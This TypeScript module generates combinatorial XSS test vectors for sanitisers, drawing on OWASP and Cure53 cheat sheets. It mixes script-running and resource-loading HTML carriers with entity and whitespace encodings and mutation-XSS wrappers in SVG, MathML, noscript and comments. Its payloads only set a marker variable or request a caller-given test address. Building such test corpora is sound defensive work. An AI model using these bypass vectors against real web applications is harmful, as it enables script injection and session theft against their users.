/**
 * Hostile markup, made by combining what runs or loads something with ways to write it and with places to put it, after
 * the cheat sheets of OWASP and Cure53 and the reports on sanitisers (mutation XSS in namespaces, raw text, tables and
 * forms). Where it is let, vector N sets `top.pwned` to N, or asks the given address for `/reached/N`.
 */

/** What a vector does: `run` is a script, `load` an address; `quoted` writes an attribute's value. */
interface Payload {
  readonly run: string;
  readonly load: string;
  readonly quoted: (value: string) => string;
}

type Carrier = (payload: Payload) => string;

/** Elements and attributes that run something. */
const runners: readonly Carrier[] = [
  ({ run }) => `<script>${run}</script>`,
  ({ load }) => `<script src="${load}"></script>`,
  ({ run, quoted }) => `<img src=x onerror=${quoted(run)}>`,
  ({ run, quoted }) => `<svg onload=${quoted(run)}></svg>`,
  ({ run }) => `<svg><script>${run}</script></svg>`,
  ({ run, quoted }) =>
    `<svg><a xlink:href=${quoted(`javascript:${run}`)}><text x="9" y="9">t</text></a></svg>`,
  ({ run, quoted }) => `<svg><animate onbegin=${quoted(run)} attributeName="x" dur="1s"/></svg>`,
  ({ run, quoted }) =>
    `<svg><a id="v"><text y="9">t</text><set attributeName="href" to=${quoted(`javascript:${run}`)}/></a></svg>`,
  ({ run, quoted }) => `<a href=${quoted(`javascript:${run}`)} autofocus tabindex="1">a</a>`,
  ({ run, quoted }) => `<a href=${quoted(`data:text/html,<script>${run}</script>`)}>a</a>`,
  ({ run, quoted }) => `<iframe srcdoc=${quoted(`<script>${run}</script>`)}></iframe>`,
  ({ run, quoted }) => `<iframe src=${quoted(`javascript:${run}`)}></iframe>`,
  ({ run, quoted }) => `<object data=${quoted(`javascript:${run}`)}></object>`,
  ({ run, quoted }) => `<embed src=${quoted(`javascript:${run}`)}>`,
  ({ run, quoted }) => `<details open ontoggle=${quoted(run)}><summary>s</summary>d</details>`,
  ({ run, quoted }) => `<input autofocus onfocus=${quoted(run)}>`,
  ({ run, quoted }) => `<video onerror=${quoted(run)}><source src="x"></video>`,
  ({ run, quoted }) => `<audio src=x onerror=${quoted(run)}></audio>`,
  ({ run, quoted }) => `<marquee onstart=${quoted(run)}>m</marquee>`,
  ({ run, quoted }) => `<body onload=${quoted(run)} onpageshow=${quoted(run)}>`,
  ({ run, quoted }) =>
    `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1s" onanimationstart=${quoted(run)}>p</p>`,
  ({ run, quoted }) => `<form action=${quoted(`javascript:${run}`)}><button autofocus>b</button></form>`,
  ({ run, quoted }) => `<form><button formaction=${quoted(`javascript:${run}`)}>b</button></form>`,
  ({ run, quoted }) => `<math href=${quoted(`javascript:${run}`)}><mtext>m</mtext></math>`,
  ({ run, quoted }) => `<meta http-equiv="refresh" content=${quoted(`0;url=javascript:${run}`)}>`,
  ({ run, quoted }) => `<base href=${quoted(`javascript:${run}//`)}>`,
  ({ run, quoted }) =>
    `<div popover id="pop" onbeforetoggle=${quoted(run)}>p</div><button popovertarget="pop">b</button>`,
  ({ run, quoted }) => `<p contenteditable onmouseover=${quoted(run)} onpointerenter=${quoted(run)}>p</p>`,
];

/** Elements, attributes and styles that load something. */
const loaders: readonly Carrier[] = [
  ({ load, quoted }) => `<img src=${quoted(load)}>`,
  ({ load, quoted }) => `<img src=x srcset=${quoted(`${load} 1x, ${load} 2x`)}>`,
  ({ load, quoted }) => `<picture><source srcset=${quoted(load)}><img src=x></picture>`,
  ({ load, quoted }) => `<video poster=${quoted(load)} src=${quoted(load)} autoplay></video>`,
  ({ load, quoted }) => `<audio src=${quoted(load)} autoplay preload="auto"></audio>`,
  ({ load, quoted }) => `<link rel="stylesheet" href=${quoted(load)}>`,
  ({ load, quoted }) =>
    `<link rel="preload prefetch icon modulepreload dns-prefetch" as="image" href=${quoted(load)}>`,
  ({ load }) => `<style>@import "${load}";</style>`,
  ({ load }) => `<style>* { background-image: url(${load}) }</style>`,
  ({ load }) => `<style>@font-face { font-family: f; src: url(${load}) } p { font-family: f }</style>`,
  ({ load, quoted }) => `<p style=${quoted(`background:url(${load})`)}>p</p>`,
  ({ load, quoted }) => `<p style=${quoted(`background:u\\72l(${load});list-style:url(${load})`)}>p</p>`,
  ({ load, quoted }) =>
    `<p style=${quoted(`background:image-set('${load}' 1x);cursor:url(${load}),auto`)}>p</p>`,
  ({ load, quoted }) =>
    `<table background=${quoted(load)}><tr><td background=${quoted(load)}>t</td></tr></table>`,
  ({ load, quoted }) => `<input type="image" src=${quoted(load)}>`,
  ({ load, quoted }) => `<iframe src=${quoted(load)}></iframe>`,
  ({ load, quoted }) => `<frameset><frame src=${quoted(load)}></frameset>`,
  ({ load, quoted }) => `<object data=${quoted(load)} type="text/html"></object>`,
  ({ load, quoted }) => `<embed src=${quoted(load)}>`,
  ({ load, quoted }) => `<image src=${quoted(load)}>`,
  ({ load, quoted }) => `<svg><image href=${quoted(load)} width="9" height="9"/></svg>`,
  ({ load, quoted }) => `<svg><image xlink:href=${quoted(load)} width="9" height="9"/></svg>`,
  ({ load, quoted }) =>
    `<svg><use href=${quoted(`${load}#a`)}/><use xlink:href=${quoted(`${load}#a`)}/></svg>`,
  ({ load, quoted }) =>
    `<svg><filter id="f"><feImage href=${quoted(load)}/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  ({ load, quoted }) =>
    `<svg><rect width="9" height="9" fill=${quoted(`url(${load}#g)`)} mask=${quoted(`url(${load}#m)`)}/></svg>`,
  ({ load, quoted }) =>
    `<svg><image width="9" height="9"><set attributeName="href" to=${quoted(load)}/></image></svg>`,
  ({ load }) => `<svg><style>rect { fill: url(${load}) } @import "${load}";</style><rect width="9"/></svg>`,
  ({ load, quoted }) => `<meta http-equiv="refresh" content=${quoted(`0;url=${load}`)}>`,
  ({ load, quoted }) => `<base href=${quoted(load)}><img src="relative.png">`,
  ({ load, quoted }) => `<form action=${quoted(load)}><input autofocus><button>b</button></form>`,
  ({ load, quoted }) => `<a ping=${quoted(load)} href="#x">a</a>`,
  ({ load, quoted }) => `<body background=${quoted(load)}>`,
];

const decimal = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');
const hex = (text: string) => [...text].map((sign) => `&#x0${sign.codePointAt(0)?.toString(16)};`).join('');
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** Ways to write an attribute's value, and what is done to the whole afterwards. */
const writings: readonly {
  readonly quoted: (value: string) => string;
  readonly whole?: (html: string) => string;
}[] = [
  { quoted: (value) => `"${escaped(value)}"` },
  { quoted: (value) => `'${value.replaceAll("'", '&#39;')}'` },
  { quoted: (value) => `"${decimal(value)}"` },
  { quoted: (value) => `"${hex(value)}"` },
  {
    quoted: (value) =>
      `"${escaped(value).replace(/^javascript:/, ' \u0001java&Tab;scr&NewLine;ipt&colon;')}"`,
  },
  {
    quoted: (value) =>
      `"${escaped(value)
        .replace(/^javascript:/, 'JaVaScRiPt\u200b:')
        .replace('\u200b', '')}"`,
  },
  { quoted: (value) => (/[\s"'`=<>]/.test(value) ? `"${escaped(value)}"` : value) },
  { quoted: (value) => `"${escaped(value)}"`, whole: (html) => html.replace(/<(\w+) /g, '<$1/') },
  {
    quoted: (value) => `"${escaped(value)}"`,
    whole: (html) => html.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  },
  { quoted: (value) => `"${escaped(value)}"`, whole: (html) => html.replace(/<(\w+) /g, '<$1\n\t\f') },
  {
    quoted: (value) => `"${escaped(value)}"`,
    whole: (html) => html.replaceAll('<', '<\u0000').replaceAll('<\u0000', '<'),
  },
  // Never closed: what follows belongs to it.
  { quoted: (value) => `"${escaped(value)}"`, whole: (html) => html.replace(/>([^<]*)$/, ' x="$1') },
  // Escaped once: a program that reads it twice finds it.
  {
    quoted: (value) => `"${escaped(value)}"`,
    whole: (html) => html.replaceAll('&', '&amp;').replaceAll('<', '&lt;'),
  },
];

const title = (html: string) => html.replaceAll('"', '&quot;');

/** Places that parsers read in different ways. */
const places: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
  (html) => `<svg><desc>${html}</desc></svg>`,
  (html) => `<svg></p><style><a id="</style>${title(html)}">${html}`,
  (html) => `<math><mtext>${html}</mtext></math>`,
  (html) => `<math><annotation-xml encoding="text/html">${html}</annotation-xml></math>`,
  (html) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${title(html)}">`,
  (html) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
  (html) => `<noscript><p title="</noscript>${title(html)}"></noscript>${html}`,
  (html) => `<template>${html}</template>`,
  (html) => `<table><caption>${html}</caption><tr>${html}<td>${html}</td></tr></table>`,
  (html) => `<select><option>${html}</option></select>`,
  (html) => `<!--> ${html} --><!--!> ${html} --!> ${html}`,
  (html) => `<![CDATA[ ${html} ]]><?x ${html} ?>`,
  (html) => `<textarea></textarea ${html}></textarea>${html}`,
  (html) => `<xmp>${html}</xmp><noembed>${html}</noembed><noframes>${html}</noframes>`,
  (html) => `<title>${html}</title><iframe>${html}</iframe>`,
  (html) => `<p>${'<b>'.repeat(40)}${html}`,
  (html) => `<figure>${html}<figcaption>${html}</figcaption></figure>`,
  (html) => `<blockquote><pre><code>${html}</code></pre></blockquote>`,
  (html) => `<p>Note<sup><a href="#n">1</a></sup></p><p id="n">${html}</p>`,
];

/**
 * `count` vectors, the same for the same count: every way to run or load something in turn, each time written another way
 * and at another place.
 */
export function combinedVectors(count: number, origin: string): readonly string[] {
  const carriers = [...runners, ...loaders];
  return Array.from({ length: count }, (_, n) => {
    const round = Math.floor(n / carriers.length);
    const writing = writings[(n + round * 5) % writings.length];
    const place = places[(n * 2 + round * 3) % places.length];
    const carrier = carriers[n % carriers.length];
    if (!writing || !place || !carrier) throw new Error('There are no vectors.');
    const payload = { run: `top.pwned=${n + 1}`, load: `${origin}/reached/${n + 1}`, quoted: writing.quoted };
    return place((writing.whole ?? ((html) => html))(carrier(payload)));
  });
}
